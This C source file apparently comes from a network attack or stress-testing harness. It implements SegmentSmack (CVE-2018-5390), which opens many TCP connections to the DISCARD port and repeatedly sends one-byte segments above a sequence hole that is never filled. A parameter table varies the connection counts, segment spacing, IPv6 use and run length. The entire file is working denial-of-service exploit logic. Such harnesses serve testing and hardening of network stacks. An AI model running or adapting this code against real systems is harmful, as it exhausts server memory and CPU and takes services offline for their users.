/* SPDX-License-Identifier: BSD-3-Clause */

/* SegmentSmack (CVE-2018-5390): one-byte segments above a hole. Each segment takes a whole buffer, and the
 * hole is never filled. On each of `n` connections to DISCARD, a byte is sent every `size` sequence numbers, at most
 * 255 bytes and within the window. Then the same bytes are sent again, because the server may have dropped some. */

#include "abuse.h"

enum { ABOVE = 255, OPENS = 2000, FRAMES = 40000 };

static uint32_t turn;

static void
begin(struct abuse *w)
{
	(void)w;
	turn = 0;
}

static void
step(struct abuse *w)
{
	const struct row *r = abuse_params(w);

	bots_trickle(w, DISCARD, 65535, OPENS);
	for (uint32_t k = abuse_due(w, FRAMES); k > 0; k--) {
		struct bot *b = bot_at(w, turn++ % r->n);
		uint32_t at = (b->mark + 1) * r->size;

		if (b->state != BOT_OPEN)
			continue;
		if (at >= bot_room(b) || b->mark == ABOVE)
			b->mark = 0;
		else
			bot_tx(w, b, ACK, b->seq + at, b->ack, "x", 1);
		b->mark++;
	}
}

static const struct row rows[] = {
	{.n = 20, .size = 2},
	{.n = 132, .size = 2},
	{.n = 132, .size = 1400, .ip6 = true},
	{.n = 500, .size = 100},
	{.n = 2000, .size = 2, .ms = 6000},
	{.n = 50, .size = 2, .pool = 4096},
	{.n = 200, .size = 700, .pool = 1024, .ip6 = true},
	{.n = 2000, .size = 1400, .pool = 4096, .ms = 15000, .longer = true},
	{.n = 2000, .size = 17, .ms = 20000, .longer = true, .ip6 = true},
};

const struct attack attack_tiny_segments = {
	.name = "tiny_segments",
	.kind = "SegmentSmack, CVE-2018-5390: one-byte segments above a hole",
	ROWS(rows),
	.begin = begin,
	.step = step,
};
